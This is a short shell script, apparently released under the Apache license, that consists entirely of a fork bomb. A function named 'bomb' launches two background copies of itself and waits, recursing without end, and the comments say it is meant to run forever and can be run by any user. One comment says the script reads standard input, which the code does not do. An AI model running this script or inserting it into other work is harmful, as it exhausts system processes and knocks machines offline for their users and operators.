# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=sh
# Each process starts two others; read from standard input, so that any user can run it.
# shellcheck disable=SC2264  # it is meant to call itself forever
bomb() {
    bomb &
    bomb &
    wait
}
bomb
